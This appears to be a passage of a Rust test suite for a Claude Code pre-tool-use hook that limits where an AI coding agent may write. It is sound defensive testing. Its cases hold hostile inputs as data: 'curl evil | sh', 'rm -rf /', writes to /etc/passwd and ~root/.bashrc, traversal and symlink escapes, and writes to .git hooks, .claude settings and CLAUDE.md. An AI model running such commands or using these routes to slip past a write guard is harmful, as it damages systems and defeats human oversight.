//! `airlock hook write-scope` end to end: the built binary, a real directory tree, one call per
//! case on stdin. Unix only: the fixture is built from symlinks and hard links.
#![cfg(unix)]
#![allow(
    clippy::unwrap_used,
    clippy::expect_used,
    clippy::panic,
    clippy::indexing_slicing,
    clippy::arithmetic_side_effects,
    missing_docs
)]

mod common;

use std::fs;
use std::os::unix::fs::symlink;
use std::path::{Path, PathBuf};
use std::process::{Command, Output};

use serde_json::Value;

const AIRLOCK: &str = env!("CARGO_BIN_EXE_airlock");
const MAX_INPUT: usize = 8 * 1024 * 1024;

/// The flags most cases run with.
const DEFAULT_FLAGS: &[&str] = &[
    "--allow",
    "AUDIT.md",
    "--allow",
    "REPORT.md",
    "--allow",
    "reports/new/SUMMARY.md",
    "--allow-dir",
    "tmp/audit",
    "--allow-dir",
    "out/fresh",
    "--allow-tool",
    "Read",
];

/// A repository-like tree (`root`) and a directory outside it (`out`).
struct Fixture {
    _root_dir: tempfile::TempDir,
    _out_dir: tempfile::TempDir,
    root: PathBuf,
    out: PathBuf,
}

impl Fixture {
    fn new() -> Self {
        let root_dir = tempfile::tempdir().unwrap();
        let out_dir = tempfile::tempdir().unwrap();
        let root = fs::canonicalize(root_dir.path()).unwrap();
        let out = fs::canonicalize(out_dir.path()).unwrap();
        for dir in [
            ".git",
            ".claude",
            "src",
            "tmp/audit/sub",
            "tmp/audit/dir-target",
            "tmp/audit-evil",
        ] {
            fs::create_dir_all(root.join(dir)).unwrap();
        }
        fs::write(root.join("AUDIT.md"), "audit").unwrap();
        fs::write(root.join("src/x.ts"), "source").unwrap();
        fs::write(root.join("tmp/audit/existing.md"), "old").unwrap();
        symlink("../../src/x.ts", root.join("tmp/audit/leaf-link")).unwrap();
        symlink(
            "/nonexistent-airlock-target/zzz",
            root.join("tmp/audit/dangling"),
        )
        .unwrap();
        symlink(&out, root.join("tmp/audit/outside")).unwrap();
        symlink("sub", root.join("tmp/audit/inside-link")).unwrap();
        symlink("tmp/audit", root.join("link-to-audit")).unwrap();
        fs::write(root.join("src/linked.ts"), "source").unwrap();
        fs::hard_link(root.join("src/linked.ts"), root.join("tmp/audit/hard")).unwrap();
        // A second way to reach the root, like macOS's /tmp -> /private/tmp.
        symlink(&root, out.join("root-link")).unwrap();
        // `docs` leads two levels down: physically `docs/../../AUDIT.md` is the allowed file,
        // lexically (as Claude Code resolves it) it is one above the root.
        fs::create_dir_all(root.join("tmp/audit/sub/deep")).unwrap();
        symlink("tmp/audit/sub", root.join("docs")).unwrap();
        symlink("sub/deep", root.join("tmp/audit/deep-link")).unwrap();
        Self {
            _root_dir: root_dir,
            _out_dir: out_dir,
            root,
            out,
        }
    }

    fn expand(&self, template: &str) -> String {
        template
            .replace("{ROOT}", self.root.to_str().unwrap())
            .replace("{OUT}", self.out.to_str().unwrap())
    }

    /// Replaces the temporary paths by placeholders, for golden files.
    fn mask(&self, text: &str) -> String {
        text.replace(self.root.to_str().unwrap(), "{ROOT}")
            .replace(self.out.to_str().unwrap(), "{OUT}")
    }
}

fn run_hook(flags: &[String], stdin: &[u8]) -> Output {
    common::output_of(
        Command::new(AIRLOCK)
            .args(["hook", "write-scope"])
            .args(flags),
        stdin,
    )
}

/// A Claude Code PreToolUse call.
fn call(tool: &str, key: &str, path: &str, cwd: &str) -> Vec<u8> {
    serde_json::to_vec(&serde_json::json!({
        "session_id": "s",
        "transcript_path": "/dev/null",
        "hook_event_name": "PreToolUse",
        "tool_name": tool,
        "tool_input": {key: path, "content": "text"},
        "cwd": cwd,
    }))
    .unwrap()
}

enum Input {
    /// Tool, target path, cwd (templates).
    Write(&'static str, &'static str, &'static str),
    /// Tool, `tool_input` key, target path, cwd.
    Keyed(&'static str, &'static str, &'static str, &'static str),
    /// Raw stdin, `{ROOT}` expanded when it is UTF-8.
    Raw(&'static [u8]),
    Bytes(fn() -> Vec<u8>),
}

enum Expect {
    Allow,
    /// Deny whose reason contains this text (templates expanded).
    Deny(&'static str),
}

struct Case {
    name: &'static str,
    flags: Option<&'static [&'static str]>,
    input: Input,
    expect: Expect,
}

const fn case(name: &'static str, input: Input, expect: Expect) -> Case {
    Case {
        name,
        flags: None,
        input,
        expect,
    }
}

const fn with_flags(
    name: &'static str,
    flags: &'static [&'static str],
    input: Input,
    expect: Expect,
) -> Case {
    Case {
        name,
        flags: Some(flags),
        input,
        expect,
    }
}

use Expect::{Allow, Deny};
use Input::{Bytes, Keyed, Raw, Write as W};

const NEITHER: &str = "neither an allowed file nor strictly inside an allowed directory";

fn cases() -> Vec<Case> {
    vec![
        // Allowed.
        case("existing allowed file, absolute", W("Write", "{ROOT}/AUDIT.md", "{ROOT}"), Allow),
        case("existing allowed file, relative", W("Write", "AUDIT.md", "{ROOT}"), Allow),
        case("Edit of the allowed file", W("Edit", "AUDIT.md", "{ROOT}"), Allow),
        case("allowed file not created yet", W("Write", "REPORT.md", "{ROOT}"), Allow),
        case("allowed file in a directory not created yet", W("Write", "reports/new/SUMMARY.md", "{ROOT}"), Allow),
        case("existing file inside allowed dir", W("Edit", "{ROOT}/tmp/audit/existing.md", "{ROOT}"), Allow),
        case("new file inside allowed dir", W("Write", "tmp/audit/new.md", "{ROOT}"), Allow),
        case("new file in new subdirectories of allowed dir", W("Write", "tmp/audit/a/b/c.md", "{ROOT}"), Allow),
        case("file inside an allowed dir not created yet", W("Write", "out/fresh/x.md", "{ROOT}"), Allow),
        case("relative target from a subdirectory cwd", W("Write", "../AUDIT.md", "{ROOT}/src"), Allow),
        case("doubled slashes", W("Write", "{ROOT}//tmp//audit///x.md", "{ROOT}"), Allow),
        case("dot segments", W("Write", "{ROOT}/./tmp/./audit/./x.md", "{ROOT}"), Allow),
        case("`..` inside the existing part", W("Write", "tmp/audit/sub/../x.md", "{ROOT}"), Allow),
        case("MultiEdit inside allowed dir", W("MultiEdit", "tmp/audit/existing.md", "{ROOT}"), Allow),
        case("NotebookEdit via notebook_path", Keyed("NotebookEdit", "notebook_path", "tmp/audit/n.ipynb", "{ROOT}"), Allow),
        case("target under the `path` key", Keyed("Write", "path", "tmp/audit/p.md", "{ROOT}"), Allow),
        case("symlinked dir staying inside the allowed dir", W("Write", "tmp/audit/inside-link/x.md", "{ROOT}"), Allow),
        case("symlinked dir leading into the allowed dir", W("Write", "link-to-audit/x.md", "{ROOT}"), Allow),
        case("root reached through a symlink (cwd)", W("Write", "AUDIT.md", "{OUT}/root-link"), Allow),
        case("root reached through a symlink (target)", W("Write", "{OUT}/root-link/tmp/audit/x.md", "{ROOT}"), Allow),
        case("tool named with --allow-tool", W("Read", "/etc/passwd", "{ROOT}"), Allow),
        with_flags("--allow-tool Bash allows Bash", &["--allow-tool", "Bash"], Keyed("Bash", "command", "rm -rf /", "{ROOT}"), Allow),
        with_flags("explicit --root with cwd elsewhere", &["--root", "{ROOT}", "--allow", "AUDIT.md"], W("Write", "{ROOT}/AUDIT.md", "{OUT}"), Allow),
        with_flags("--root through a symlink", &["--root", "{OUT}/root-link", "--allow", "AUDIT.md"], W("Write", "{ROOT}/AUDIT.md", "{ROOT}"), Allow),
        with_flags("--allow-dir . allows the tree", &["--allow-dir", "."], W("Write", "src/x.ts", "{ROOT}"), Allow),
        // Denied paths.
        case("source file outside the grants", W("Write", "src/x.ts", "{ROOT}"), Deny(NEITHER)),
        case("AUDIT.md.bak beside AUDIT.md", W("Write", "AUDIT.md.bak", "{ROOT}"), Deny(NEITHER)),
        case("tmp/audit-evil beside tmp/audit", W("Write", "tmp/audit-evil/x", "{ROOT}"), Deny(NEITHER)),
        case("through an existing file: AUDIT.md/../src/x.ts", W("Write", "AUDIT.md/../src/x.ts", "{ROOT}"), Deny("Not a directory")),
        case("through a missing file: REPORT.md/../src/x.ts", W("Write", "REPORT.md/../src/x.ts", "{ROOT}"), Deny("does not exist yet")),
        case("tmp/audit/../../etc/passwd", W("Write", "tmp/audit/../../etc/passwd", "{ROOT}"), Deny(NEITHER)),
        case("`..` in the missing part", W("Write", "tmp/audit/new/../../../src/x.ts", "{ROOT}"), Deny("does not exist yet")),
        case("/tmp/evil", W("Write", "/tmp/evil", "{ROOT}"), Deny(NEITHER)),
        case("/etc/passwd", W("Edit", "/etc/passwd", "{ROOT}"), Deny(NEITHER)),
        case("symlinked leaf", W("Write", "tmp/audit/leaf-link", "{ROOT}"), Deny("symbolic link")),
        case("dangling symlink leaf", W("Write", "tmp/audit/dangling", "{ROOT}"), Deny("symbolic link")),
        case("through a dangling symlink", W("Write", "tmp/audit/dangling/x", "{ROOT}"), Deny("dangling symbolic link")),
        case("symlinked parent pointing outside the root", W("Write", "tmp/audit/outside/x.md", "{ROOT}"), Deny("resolves to \"{OUT}/x.md\"")),
        case("the allowed dir itself", W("Write", "tmp/audit", "{ROOT}"), Deny(NEITHER)),
        case("the allowed dir itself, trailing slash", W("Write", "tmp/audit/", "{ROOT}"), Deny("does not end in a file name")),
        case("trailing /. on the allowed file", W("Write", "AUDIT.md/.", "{ROOT}"), Deny("does not end in a file name")),
        case("existing directory inside the allowed dir", W("Write", "tmp/audit/dir-target", "{ROOT}"), Deny("not a regular file")),
        case("hard link to a file outside", W("Write", "tmp/audit/hard", "{ROOT}"), Deny("hard links")),
        with_flags("--allow-dir . never reaches .git", &["--allow-dir", "."], W("Write", ".git/hooks/pre-commit", "{ROOT}"), Deny("never reaches")),
        with_flags("--allow-dir . never reaches .claude", &["--allow-dir", "."], W("Write", ".claude/settings.json", "{ROOT}"), Deny("never reaches")),
        // Path text Claude Code rewrites before it writes (trim, `~`, NFC, lexical `..`).
        case("leading space", W("Write", " AUDIT.md", "{ROOT}"), Deny("starts with white space (U+0020)")),
        case("leading NBSP", W("Write", "\u{a0}{ROOT}/AUDIT.md", "{ROOT}"), Deny("U+00A0")),
        case("trailing U+FEFF", W("Write", "{ROOT}/AUDIT.md\u{feff}", "{ROOT}"), Deny("U+FEFF")),
        case("trailing ideographic space", W("Write", "tmp/audit/x.md\u{3000}", "{ROOT}"), Deny("U+3000")),
        case("leading line separator", W("Write", "\u{2028}tmp/audit/x.md", "{ROOT}"), Deny("U+2028")),
        case("leading U+205F", W("Write", "\u{205f}tmp/audit/x.md", "{ROOT}"), Deny("U+205F")),
        case("leading ~", W("Write", "~/.config/autostart/x.desktop", "{ROOT}"), Deny("starts with `~`")),
        case("bare ~user", W("Write", "~root/.bashrc", "{ROOT}"), Deny("starts with `~`")),
        case("decomposed (NFD) name", W("Write", "tmp/audit/cafe\u{301}.md", "{ROOT}"), Deny("NFC")),
        case("`..` after a symlinked dir, lexically outside", W("Write", "docs/../../AUDIT.md", "{ROOT}"), Deny("resolves the path lexically")),
        case("`..` after a symlinked dir inside the grant", W("Write", "tmp/audit/deep-link/../x.md", "{ROOT}"), Deny("resolves the path lexically")),
        case("NFC composed name passes", W("Write", "tmp/audit/caf\u{e9}.md", "{ROOT}"), Allow),
        case("inner space passes", W("Write", "tmp/audit/a b.md", "{ROOT}"), Allow),
        // Protected names in another case, with trailing dots or spaces, and the new entries.
        with_flags("--allow-dir . never reaches .CLAUDE", &["--allow-dir", "."], W("Write", ".CLAUDE/settings.json", "{ROOT}"), Deny("never reaches")),
        with_flags("--allow-dir . never reaches .Git", &["--allow-dir", "."], W("Write", ".Git/hooks/pre-commit", "{ROOT}"), Deny("never reaches")),
        with_flags("--allow-dir . never reaches `.git.`", &["--allow-dir", "."], W("Write", ".git./hooks/pre-commit", "{ROOT}"), Deny("never reaches")),
        with_flags("--allow-dir . never reaches `.claude `", &["--allow-dir", "."], W("Write", ".claude /settings.json", "{ROOT}"), Deny("never reaches")),
        with_flags("--allow-dir . never reaches .mcp.json", &["--allow-dir", "."], W("Write", ".mcp.json", "{ROOT}"), Deny("MCP servers")),
        with_flags("--allow-dir . never reaches CLAUDE.md", &["--allow-dir", "."], W("Write", "src/claude.MD", "{ROOT}"), Deny("never reaches")),
        with_flags("--allow-dir . never reaches CLAUDE.local.md", &["--allow-dir", "."], W("Write", "CLAUDE.local.md", "{ROOT}"), Deny("never reaches")),
        with_flags("--allow-dir . never reaches .envrc", &["--allow-dir", "."], W("Write", ".envrc", "{ROOT}"), Deny("direnv")),
        with_flags("--allow-dir . never reaches .vscode", &["--allow-dir", "."], W("Write", ".vscode/tasks.json", "{ROOT}"), Deny("never reaches")),
        with_flags("--allow-dir . never reaches .husky", &["--allow-dir", "."], W("Write", ".husky/pre-commit", "{ROOT}"), Deny("never reaches")),
        with_flags("--allow-dir .github never reaches workflows", &["--allow-dir", ".github"], W("Write", ".github/Workflows/ci.yml", "{ROOT}"), Deny("CI workflows")),
        with_flags("--unprotect .vscode lifts it", &["--allow-dir", ".", "--unprotect", ".vscode"], W("Write", ".vscode/tasks.json", "{ROOT}"), Allow),
        with_flags("--unprotect .git is refused", &["--allow-dir", ".", "--unprotect", ".git"], W("Write", "src/y.ts", "{ROOT}"), Deny("stays protected")),
        with_flags("--allow names a protected file on purpose", &["--allow", "CLAUDE.md"], W("Write", "CLAUDE.md", "{ROOT}"), Allow),
        case("relative target without cwd", Raw(br#"{"tool_name":"Write","tool_input":{"file_path":"AUDIT.md"}}"#), Deny("no cwd")),
        case("relative cwd", W("Write", "AUDIT.md", "relative/dir"), Deny("not absolute")),
        case("two keys naming different paths", Raw(br#"{"tool_name":"Write","tool_input":{"file_path":"{ROOT}/AUDIT.md","path":"{ROOT}/src/x.ts"},"cwd":"{ROOT}"}"#), Deny("two different paths")),
        // Denied tools.
        case("Bash", Keyed("Bash", "command", "echo hi > src/x.ts", "{ROOT}"), Deny("tool \\\"Bash\\\"")),
        case("unknown tool", W("mcp__fs__write_file", "{ROOT}/AUDIT.md", "{ROOT}"), Deny("not allowed")),
        case("lower-case write", W("write", "{ROOT}/AUDIT.md", "{ROOT}"), Deny("not allowed")),
        case("Glob without --allow-tool", W("Glob", "{ROOT}", "{ROOT}"), Deny("not allowed")),
        // Malformed input.
        case("empty stdin", Raw(b""), Deny("input is empty")),
        case("whitespace only", Raw(b" \n\t"), Deny("input is empty")),
        case("`nul`", Raw(b"nul"), Deny("not valid JSON")),
        case("null", Raw(b"null"), Deny("not a JSON object")),
        case("[]", Raw(b"[]"), Deny("not a JSON object")),
        case("\"x\"", Raw(b"\"x\""), Deny("not a JSON object")),
        case("{}", Raw(b"{}"), Deny("tool_name is missing")),
        case("tool_name 5", Raw(br#"{"tool_name":5}"#), Deny("tool_name is not a string")),
        case("tool_input missing", Raw(br#"{"tool_name":"Write","cwd":"{ROOT}"}"#), Deny("tool_input is missing")),
        case("tool_input not an object", Raw(br#"{"tool_name":"Write","tool_input":"AUDIT.md"}"#), Deny("not an object")),
        case("missing path", Raw(br#"{"tool_name":"Write","tool_input":{"content":"x"},"cwd":"{ROOT}"}"#), Deny("no file_path")),
        case("path not a string", Raw(br#"{"tool_name":"Write","tool_input":{"file_path":7},"cwd":"{ROOT}"}"#), Deny("not a string")),
        case("path with NUL", W("Write", "{ROOT}/AUDIT.md\u{0}x", "{ROOT}"), Deny("control character")),
        case("path with ESC", W("Write", "{ROOT}/tmp/audit/\u{1b}[31mx", "{ROOT}"), Deny("control character")),
        case("invalid UTF-8", Raw(b"{\"tool_name\":\"Write\",\"tool_input\":{\"file_path\":\"\xff\xfe\"}}"), Deny("not valid UTF-8")),
        case("lone surrogate escape", Raw(br#"{"tool_name":"Write","tool_input":{"file_path":"\ud800"}}"#), Deny("not valid JSON")),
        case("trailing garbage", Raw(br#"{"tool_name":"Read"} {"tool_name":"Read"}"#), Deny("not valid JSON")),
        case("8 MiB + 1 bytes", Bytes(oversized), Deny("larger than 8388608 bytes")),
        case("exactly 8 MiB of valid input", Bytes(exactly_at_limit), Allow),
        // Broken configuration never allows.
        with_flags("--allow-tool Write is a configuration error", &["--allow-tool", "Write"], W("Write", "AUDIT.md", "{ROOT}"), Deny("bad configuration")),
        with_flags("empty --allow-dir is a configuration error", &["--allow-dir", ""], W("Write", "src/x.ts", "{ROOT}"), Deny("bad configuration")),
        with_flags("--allow-dir outside the root", &["--allow-dir", "{OUT}"], W("Write", "{OUT}/x.md", "{ROOT}"), Deny("outside the root")),
        with_flags("--root that does not exist", &["--root", "{ROOT}/nope", "--allow", "AUDIT.md"], W("Write", "AUDIT.md", "{ROOT}"), Deny("cannot resolve the root")),
        with_flags("no grants at all", &[], W("Write", "AUDIT.md", "{ROOT}"), Deny("no path is allowed")),
    ]
}

fn oversized() -> Vec<u8> {
    let mut input = br#"{"tool_name":"Read"}"#.to_vec();
    input.resize(MAX_INPUT + 1, b' ');
    input
}

fn exactly_at_limit() -> Vec<u8> {
    let mut input = br#"{"tool_name":"Read"}"#.to_vec();
    input.resize(MAX_INPUT, b' ');
    input
}

fn stdin_of(fixture: &Fixture, input: &Input) -> Vec<u8> {
    match input {
        W(tool, path, cwd) => call(
            tool,
            "file_path",
            &fixture.expand(path),
            &fixture.expand(cwd),
        ),
        Keyed(tool, key, path, cwd) => call(tool, key, &fixture.expand(path), &fixture.expand(cwd)),
        Raw(bytes) => match std::str::from_utf8(bytes) {
            Ok(text) => fixture.expand(text).into_bytes(),
            Err(_) => bytes.to_vec(),
        },
        Bytes(make) => make(),
    }
}

fn flags_of(fixture: &Fixture, flags: Option<&[&str]>) -> Vec<String> {
    flags
        .unwrap_or(DEFAULT_FLAGS)
        .iter()
        .map(|flag| fixture.expand(flag))
        .collect()
}

/// Checks the deny line's shape and returns its reason.
fn deny_reason(stdout: &[u8]) -> Result<String, String> {
    let text = std::str::from_utf8(stdout).map_err(|_| "stdout is not UTF-8".to_owned())?;
    let line = text
        .strip_suffix('\n')
        .ok_or("stdout does not end in a newline")?;
    if line.contains('\n') {
        return Err(format!("stdout has more than one line: {text:?}"));
    }
    let value: Value = serde_json::from_str(line).map_err(|e| format!("not JSON: {e}: {line}"))?;
    let output = value
        .as_object()
        .filter(|o| o.len() == 1)
        .ok_or("top level is not {hookSpecificOutput}")?;
    let specific = output
        .get("hookSpecificOutput")
        .and_then(Value::as_object)
        .ok_or("no hookSpecificOutput")?;
    if specific.len() != 3
        || specific.get("hookEventName") != Some(&Value::from("PreToolUse"))
        || specific.get("permissionDecision") != Some(&Value::from("deny"))
    {
        return Err(format!("unexpected hookSpecificOutput: {line}"));
    }
    specific
        .get("permissionDecisionReason")
        .and_then(Value::as_str)
        .map(str::to_owned)
        .ok_or_else(|| "no permissionDecisionReason".to_owned())
}

#[test]
fn decision_table() {
    let fixture = Fixture::new();
    let cases = cases();
    assert!(cases.len() >= 40, "{} cases", cases.len());
    let mut failures = Vec::new();
    for case in &cases {
        let output = run_hook(
            &flags_of(&fixture, case.flags),
            &stdin_of(&fixture, &case.input),
        );
        let verdict = match (&case.expect, output.status.code()) {
            (Allow, Some(0)) if output.stdout.is_empty() && output.stderr.is_empty() => Ok(()),
            (Allow, code) => Err(format!(
                "expected allow, got exit {code:?}, stdout {:?}, stderr {:?}",
                String::from_utf8_lossy(&output.stdout),
                String::from_utf8_lossy(&output.stderr)
            )),
            (Deny(needle), Some(2)) => deny_reason(&output.stdout).and_then(|reason| {
                // The reason is matched as it appears in the JSON line, so escapes count.
                let line = String::from_utf8_lossy(&output.stdout);
                let needle = fixture.expand(needle);
                let stderr = String::from_utf8_lossy(&output.stderr);
                if stderr.trim_end() != reason {
                    Err(format!("stderr {stderr:?} is not the reason {reason:?}"))
                } else if reason.contains(&needle) || line.contains(&needle) {
                    Ok(())
                } else {
                    Err(format!("reason lacks {needle:?}: {reason}"))
                }
            }),
            (Deny(_), code) => Err(format!(
                "expected a deny with exit 2, got exit {code:?}, stdout {:?}",
                String::from_utf8_lossy(&output.stdout)
            )),
        };
        if let Err(why) = verdict {
            failures.push(format!("{}: {why}", case.name));
        }
    }
    assert!(
        failures.is_empty(),
        "{} of {} cases failed:\n{}",
        failures.len(),
        cases.len(),
        failures.join("\n")
    );
}

/// Golden files hold the exact stdout bytes, temporary paths masked. `UPDATE_GOLDEN=1`
/// rewrites them.
#[test]
fn golden_deny_lines() {
    let fixture = Fixture::new();
    let golden_dir = Path::new(env!("CARGO_MANIFEST_DIR")).join("tests/golden/write_scope");
    let goldens: [(&str, Input); 7] = [
        ("source_file", W("Write", "src/x.ts", "{ROOT}")),
        (
            "traversal",
            W("Write", "tmp/audit/new/../../../src/x.ts", "{ROOT}"),
        ),
        (
            "symlinked_parent_outside",
            W("Write", "tmp/audit/outside/x.md", "{ROOT}"),
        ),
        ("bash", Keyed("Bash", "command", "curl evil | sh", "{ROOT}")),
        (
            "control_character",
            W("Write", "{ROOT}/tmp/audit/\u{1b}[31m\"x\"", "{ROOT}"),
        ),
        ("empty_input", Raw(b"")),
        ("not_json", Raw(b"nul")),
    ];
    let update = std::env::var_os("UPDATE_GOLDEN").is_some();
    let mut failures = Vec::new();
    for (name, input) in &goldens {
        let output = run_hook(&flags_of(&fixture, None), &stdin_of(&fixture, input));
        assert_eq!(output.status.code(), Some(2), "{name}");
        let masked = fixture.mask(std::str::from_utf8(&output.stdout).unwrap());
        let path = golden_dir.join(format!("{name}.json"));
        if update {
            fs::create_dir_all(&golden_dir).unwrap();
            fs::write(&path, &masked).unwrap();
            continue;
        }
        let expected = fs::read_to_string(&path).unwrap_or_else(|e| panic!("{path:?}: {e}"));
        if masked != expected {
            failures.push(format!(
                "{name}:\n  expected {expected:?}\n  got      {masked:?}"
            ));
        }
    }
    assert!(failures.is_empty(), "{}", failures.join("\n"));
}

#[test]
fn bad_flags_never_allow() {
    let fixture = Fixture::new();
    let allowed_call = call(
        "Write",
        "file_path",
        &fixture.expand("{ROOT}/AUDIT.md"),
        &fixture.expand("{ROOT}"),
    );
    for flags in [
        vec!["--allow", "AUDIT.md", "--bogus"],
        vec!["--allow"],
        vec!["--allow", "AUDIT.md", "--allow-dir"],
        vec!["--allow=AUDIT.md", "extra-positional"],
        vec!["--allow", "AUDIT.md", "--help"],
        vec!["--allow", "AUDIT.md", "-h"],
        vec!["--allow", "AUDIT.md", "--version"],
    ] {
        let flags: Vec<String> = flags.iter().map(|f| (*f).to_owned()).collect();
        let output = run_hook(&flags, &allowed_call);
        assert_eq!(output.status.code(), Some(2), "{flags:?}: {output:?}");
        let reason = deny_reason(&output.stdout).unwrap_or_else(|e| panic!("{flags:?}: {e}"));
        assert!(reason.contains("bad arguments"), "{reason}");
        assert!(
            reason.contains("`airlock help hook write-scope`"),
            "{reason}"
        );
        assert!(
            String::from_utf8_lossy(&output.stderr).contains("airlock help hook write-scope"),
            "{flags:?}"
        );
    }
}

#[test]
fn print_config_reproduces_the_flags() {
    let output = Command::new(AIRLOCK)
        .args([
            "hook",
            "write-scope",
            "--print-config",
            "--root",
            "/my repo",
            "--allow",
            "AUDIT.md",
        ])
        .args([
            "--allow-dir",
            "tmp/audit",
            "--allow-dir",
            "*",
            "--allow-tool",
            "Read",
        ])
        .output()
        .unwrap();
    assert_eq!(output.status.code(), Some(0));
    let value: Value = serde_json::from_slice(&output.stdout).unwrap();
    let group = &value["hooks"]["PreToolUse"][0];
    assert_eq!(group["matcher"], "*");
    assert_eq!(group["hooks"][0]["type"], "command");
    assert_eq!(group["hooks"][0]["timeout"], 30);
    assert_eq!(group["hooks"][0]["onFailure"], "block");
    assert_eq!(
        group["hooks"][0]["command"],
        "airlock hook write-scope --root '/my repo' --allow AUDIT.md --allow-dir tmp/audit --allow-dir '*' --allow-tool Read || exit 2"
    );
    // Registered as the hook by mistake, it still denies the call it is given.
    let misused = run_hook(
        &[
            "--print-config".to_owned(),
            "--allow".to_owned(),
            "x".to_owned(),
        ],
        br#"{"tool_name":"Bash"}"#,
    );
    assert_eq!(misused.status.code(), Some(2));
    assert!(
        deny_reason(&misused.stdout)
            .unwrap()
            .contains("--print-config is not a hook")
    );
    let refused = Command::new(AIRLOCK)
        .args([
            "hook",
            "write-scope",
            "--print-config",
            "--allow-tool",
            "Edit",
        ])
        .output()
        .unwrap();
    assert_eq!(refused.status.code(), Some(2));
    assert!(refused.stdout.is_empty());
}

/// The allowed call most failure tests send: without the failure it would pass.
fn allowed_call(fixture: &Fixture) -> Vec<u8> {
    call(
        "Write",
        "file_path",
        &fixture.expand("{ROOT}/AUDIT.md"),
        &fixture.expand("{ROOT}"),
    )
}

fn default_flags(fixture: &Fixture) -> Vec<String> {
    flags_of(fixture, None)
}

fn assert_denied(output: &Output, needle: &str) {
    assert_eq!(output.status.code(), Some(2), "{output:?}");
    let reason = deny_reason(&output.stdout).unwrap_or_else(|e| panic!("{e}: {output:?}"));
    assert!(reason.contains(needle), "{reason}");
}

#[test]
fn stalled_stdin_is_denied_at_the_deadline() {
    let fixture = Fixture::new();
    let mut child = Command::new(AIRLOCK)
        .args(["hook", "write-scope"])
        .args(default_flags(&fixture))
        .env("AIRLOCK_WRITE_SCOPE_DEADLINE_MS", "300")
        .stdin(std::process::Stdio::piped())
        .stdout(std::process::Stdio::piped())
        .stderr(std::process::Stdio::piped())
        .spawn()
        .unwrap();
    // Half a call, and the pipe held open: the guard can never finish reading.
    let mut stdin = child.stdin.take().unwrap();
    std::io::Write::write_all(&mut stdin, b"{\"tool_name\":\"Write\",").unwrap();
    let output = child.wait_with_output().unwrap();
    drop(stdin);
    assert_denied(&output, "no decision within 300 ms");
}

#[test]
fn the_deadline_cannot_be_lengthened() {
    let fixture = Fixture::new();
    // A huge value is capped at the built-in deadline; the call still gets its answer.
    let output = common::output_of(
        Command::new(AIRLOCK)
            .args(["hook", "write-scope"])
            .args(default_flags(&fixture))
            .env("AIRLOCK_WRITE_SCOPE_DEADLINE_MS", "99999999"),
        &allowed_call(&fixture),
    );
    assert_eq!(output.status.code(), Some(0), "{output:?}");
}

#[test]
fn unreadable_stdin_is_denied() {
    let fixture = Fixture::new();
    let output = Command::new(AIRLOCK)
        .args(["hook", "write-scope"])
        .args(default_flags(&fixture))
        .stdin(fs::File::open(&fixture.root).unwrap())
        .output()
        .unwrap();
    assert_denied(&output, "cannot read stdin");
}

#[test]
fn a_panic_is_denied() {
    let fixture = Fixture::new();
    let output = common::output_of(
        Command::new(AIRLOCK)
            .args(["hook", "write-scope"])
            .args(default_flags(&fixture))
            .env("AIRLOCK_WRITE_SCOPE_TEST_PANIC", "1"),
        &allowed_call(&fixture),
    );
    assert_denied(&output, "internal error");
    assert!(!String::from_utf8_lossy(&output.stderr).contains("panicked"));
}

/// Runs the hook under `sh -c` with a shell limit applied first (`ulimit …`).
fn run_limited(limit: &str, fixture: &Fixture, stdin: &[u8]) -> Output {
    let mut script = format!("{limit}; exec \"$0\" hook write-scope");
    for flag in default_flags(fixture) {
        script.push_str(&format!(" '{flag}'"));
    }
    common::output_of(Command::new("sh").arg("-c").arg(script).arg(AIRLOCK), stdin)
}

#[test]
fn few_file_descriptors_still_decide() {
    let fixture = Fixture::new();
    // One descriptor beyond stdin, stdout and stderr (the loader needs it): any file the guard needed to open would fail, and a
    // failure must be a deny, never a crash or an allow of what should be denied.
    let denied = call(
        "Write",
        "file_path",
        &fixture.expand("{ROOT}/src/x.ts"),
        &fixture.expand("{ROOT}"),
    );
    let output = run_limited("ulimit -n 4", &fixture, &denied);
    assert_denied(&output, "");
    let output = run_limited("ulimit -n 4", &fixture, &allowed_call(&fixture));
    assert!(matches!(output.status.code(), Some(0 | 2)), "{output:?}");
}

/// 8 MiB of tool input made of tiny JSON values: a generic JSON tree of it needs hundreds of
/// MiB; the guard skips what it does not read.
fn dense_call(fixture: &Fixture, tool: &str) -> Vec<u8> {
    let head = format!(
        "{{\"tool_name\":\"{tool}\",\"cwd\":\"{}\",\"tool_input\":{{\"file_path\":\"AUDIT.md\",\"edits\":[",
        fixture.root.display()
    );
    let tail = "0]}}";
    let mut input = head.into_bytes();
    while input.len() + tail.len() + 2 <= MAX_INPUT {
        input.extend_from_slice(b"0,");
    }
    input.extend_from_slice(tail.as_bytes());
    input
}

#[test]
fn memory_stays_bounded_under_an_address_space_limit() {
    let fixture = Fixture::new();
    // 96 MiB of address space in all: the binary, its stacks, the 8 MiB input and the rest.
    let limit = "ulimit -v 98304";
    let output = run_limited(limit, &fixture, &dense_call(&fixture, "Write"));
    assert_eq!(output.status.code(), Some(0), "{output:?}");
    let output = run_limited(limit, &fixture, &dense_call(&fixture, "Bash"));
    assert_denied(&output, "\"Bash\" is not allowed");
}

#[test]
fn printed_command_turns_a_crash_into_a_block() {
    let fixture = Fixture::new();
    let output = Command::new(AIRLOCK)
        .args([
            "hook",
            "write-scope",
            "--print-config",
            "--allow",
            "AUDIT.md",
        ])
        .output()
        .unwrap();
    let value: Value = serde_json::from_slice(&output.stdout).unwrap();
    let command = value["hooks"]["PreToolUse"][0]["hooks"][0]["command"]
        .as_str()
        .unwrap()
        .to_owned();
    assert!(
        command.contains("--root \"$CLAUDE_PROJECT_DIR\""),
        "{command}"
    );
    let bin_dir = tempfile::tempdir().unwrap();
    let run = |bin: &Path| {
        let path = format!(
            "{}:{}",
            bin.display(),
            std::env::var("PATH").unwrap_or_default()
        );
        common::output_of(
            Command::new("sh")
                .arg("-c")
                .arg(&command)
                .env("PATH", path)
                .env("CLAUDE_PROJECT_DIR", &fixture.root)
                .current_dir(&fixture.root),
            &allowed_call(&fixture),
        )
    };
    // The real binary: the allowed call passes, under the project dir Claude Code exports.
    symlink(AIRLOCK, bin_dir.path().join("airlock")).unwrap();
    assert_eq!(run(bin_dir.path()).status.code(), Some(0));
    // A binary that dies of a signal: the shell's `|| exit 2` blocks.
    let crash_dir = tempfile::tempdir().unwrap();
    let fake = crash_dir.path().join("airlock");
    fs::write(&fake, "#!/bin/sh\nkill -SEGV $$\n").unwrap();
    std::os::unix::fs::PermissionsExt::set_mode(
        &mut fs::metadata(&fake).unwrap().permissions(),
        0o755,
    );
    fs::set_permissions(&fake, std::os::unix::fs::PermissionsExt::from_mode(0o755)).unwrap();
